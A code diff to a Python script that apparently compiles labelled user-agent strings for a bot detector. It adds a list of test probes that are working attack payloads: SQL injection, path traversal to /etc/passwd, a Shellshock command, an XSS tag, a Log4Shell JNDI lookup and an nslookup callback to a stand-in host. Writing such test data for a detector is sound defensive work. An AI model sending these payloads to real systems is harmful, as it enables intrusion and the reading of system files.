@@ -85,6 +85,19 @@ CATEGORIES: list[tuple[str, str]] = [
 COMPILED = [(name, re.compile(pattern)) for name, pattern in CATEGORIES]
 
 
+# Attack probes: none of the collections above holds one, so a few are written here, one per
+# class of attack syntax the default detector knows (category "probe"; source "botguard").
+PROBES: tuple[str, ...] = (
+    "' OR 1=1 --",
+    "../../../../etc/passwd",
+    "$(nslookup probe.example.org)",
+    "() { :; }; echo; /bin/cat /etc/passwd",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://probe.example.org/a}",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+)
+
+
 def category_of(user_agent: str) -> str:
     for name, pattern in COMPILED:
         if pattern.search(user_agent):
@@ -104,6 +117,8 @@ def rows(data: Path) -> list[tuple[str, str, str, str]]:
                     continue
                 category = category_of(ua) if kind == "bot" else ""
                 out[ua] = (kind, category, ",".join(sorted(kept)), ua)
+    for ua in PROBES:
+        out[ua] = ("bot", "probe", "botguard", ua)
     return sorted(out.values())
 
 
